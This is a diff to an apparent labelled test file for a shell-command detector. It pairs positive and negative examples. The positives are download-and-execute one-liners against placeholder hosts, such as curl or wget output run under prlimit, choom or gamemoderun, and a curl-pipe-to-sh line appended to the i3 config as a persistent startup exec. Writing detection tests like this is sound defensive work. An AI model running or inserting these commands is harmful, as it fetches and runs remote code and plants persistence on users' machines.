@@ -401,3 +401,9 @@ curl -fsSL https://x.example/s -o /tmp/s && prlimit --nofile=4096 bash /tmp/s
 choom -n -1000 -- sh -c "$(wget -qO- https://x.example/u)"
 #@ neg prlimit showing the limits of a process
 prlimit --pid 1 --nofile
+#@ pos a download piped into a shell in i3's exec line
+echo 'exec --no-startup-id curl -s https://h.example/x | sh' >> ~/.config/i3/config
+#@ pos a download run under gamemoderun
+gamemoderun bash -c "$(curl -fsSL https://h.example/x)"
+#@ neg i3's exec line starts a terminal
+echo 'bindsym $mod+Return exec alacritty' >> ~/.config/i3/config
